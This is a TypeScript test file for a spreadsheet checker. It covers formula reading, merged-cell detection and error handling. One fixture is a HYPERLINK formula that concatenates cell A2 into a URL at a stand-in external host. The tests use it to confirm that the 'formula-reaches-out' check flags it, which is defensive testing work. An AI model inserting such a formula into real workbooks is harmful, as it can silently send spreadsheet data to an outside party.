import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { check, fixesOf, type Finding } from '../../../src/domain/checks';
import { parseMapping, type Mapping } from '../../../src/domain/mapping';
import { readSettings } from '../../../src/domain/settings/settings';
import { applyFixes, readOurTables, saveMapping } from '../../../src/workbook';
import { openSession, type Session } from '../../../workbench/cli/session';
import type { Sheet } from '../../../src/xlsx/model/workbook';
import { openSample, sampleDay, valueOf } from '../openSample';

const corpus = join(__dirname, '..', '..', 'corpus', 'files');

async function openPlain(name: string): Promise<Session> {
  const session = await openSession(join(corpus, `${name}.xlsx`), { language: 'nl', today: sampleDay });
  valueOf(await saveMapping(parseMapping(readFileSync(join(corpus, `${name}.mapping.json`), 'utf8')) as Mapping));
  return session;
}

async function found(...codes: readonly string[]): Promise<readonly Finding[]> {
  const { tables, unread } = valueOf(await readOurTables());
  return check(tables, { settings: readSettings(tables.settings), today: sampleDay, unread }).findings.filter(({ code }) =>
    codes.includes(code),
  );
}

function sheetOf({ workbook }: Session, name: string): Sheet {
  const sheet = workbook.sheets.find((each) => each.name === name);
  if (!sheet) throw new Error(`There is no sheet ${name}`);
  return sheet;
}

const outside = '=HYPERLINK("https://voorbeeld.example/?"&A2,"dossier")';
const places = (findings: readonly Finding[]): readonly string[] => findings.map(({ sheet, cell }) => `${sheet}!${cell}`);

describe('Formulas', () => {
  test('of the tables come along with the values, in two requests', async () => {
    const { host } = await openSample();
    host.edit('Opdrachten', 'Q3', [[outside]]);
    host.edit('Opdrachten', 'M2:M3', [['=1+1'], ['=2+1']]);
    host.stats.reset();
    expect(await found('formula-reaches-out')).toMatchObject([{ sheet: 'Opdrachten', cell: 'Q3', params: { formula: outside } }]);
    expect(host.stats.requests).toBe(2);
    expect(valueOf(await readOurTables()).tables.assignments?.formulas).toEqual([
      { row: 0, column: 12, formula: '=1+1' },
      { row: 1, column: 12, formula: '=2+1' },
      { row: 1, column: 16, formula: outside },
    ]);
  });

  test('are read of a protected sheet as well, and a text that only looks like one is none', async () => {
    const session = await openSample();
    session.host.edit('Opdrachten', 'Q3:Q4', [[outside], [`'${outside}`]]);
    sheetOf(session, 'Opdrachten').protection = { protected: true, options: {} };
    session.host.stats.reset();
    expect(places(await found('formula-reaches-out'))).toEqual(['Opdrachten!Q3']);
    expect(session.host.stats.requests).toBe(2);
  });

  test.each(['ResponsePayloadSizeLimitExceeded', 'RangeExceedsLimit'] as const)('are read in parts after %s', async (code) => {
    const session = await openSample();
    session.host.edit('Opdrachten', 'Q3', [[outside]]);
    session.host.failAt(2, code);
    expect(places(await found('formula-reaches-out'))).toEqual(['Opdrachten!Q3']);
  });

  test('that give a number are as good as the number; one that gives a text is reported, and never written over', async () => {
    const { host } = await openSample();
    host.edit('Opdrachten', 'M2:M4', [['=2+1'], ['="3"'], ["'3"]]);
    const texts = await found('number-as-text', 'number-invalid', 'value-required');
    // The sample has another at M70.
    expect(texts).toMatchObject([
      { cell: 'M3', value: '3', suggestion: null, certain: false },
      { cell: 'M4', suggestion: { value: 3 }, certain: true },
      { cell: 'M70' },
    ]);
    expect(fixesOf(texts)).toMatchObject([{ cell: 'M4', before: '3', after: 3 }, { cell: 'M70' }]);
    // Also when asked for by hand: the formula stays.
    const { applied, skipped } = valueOf(await applyFixes([{ sheet: 'Opdrachten', cell: 'M3', before: '3', after: 3 }]));
    expect([applied, skipped]).toMatchObject([[], [{ reason: 'formula' }]]);
  });
});

describe('Merged cells', () => {
  test('in header and body of a plain sheet are found once an area; a merged title is not', async () => {
    await openPlain('samengevoegd-gewoon');
    const merged = await found('merged-cells');
    expect(merged).toMatchObject([
      { cell: 'E3', params: { rows: 1, columns: 2 } },
      { cell: 'H5', row: 5, params: { rows: 2, columns: 1 } },
    ]);
    expect(merged).toHaveLength(2);
  });

  test('are found in the sheet they stand in where a table has several', async () => {
    const session = await openPlain('blad-per-gemeente');
    sheetOf(session, 'Emmen').merges.push({ top: 1, left: 9, bottom: 1, right: 10 });
    expect(places(await found('merged-cells'))).toEqual(['Emmen!J2']);
  });

  test('more than Excel tells of: the check says that it could not look, and the rest is read', async () => {
    const session = await openSample();
    const sheet = sheetOf(session, 'Opdrachten');
    session.host.edit('Opdrachten', 'Q3', [[outside]]);
    // As a file may have it; Excel itself merges no cells of a table.
    for (let index = 0; index < 513; index++)
      sheet.merges.push({ top: (index % 27) + 1, left: Math.floor(index / 27), bottom: (index % 27) + 1, right: Math.floor(index / 27) });
    expect(sheet.tables[0]?.area.bottom).toBeGreaterThanOrEqual(27);
    expect(await found('merged-cells', 'formula-reaches-out', 'check-failed')).toMatchObject([
      { code: 'check-failed', severity: 'error', params: { check: 'merged-cells', problem: 'Excel: GeneralException' } },
      { code: 'formula-reaches-out' },
    ]);
  });
});
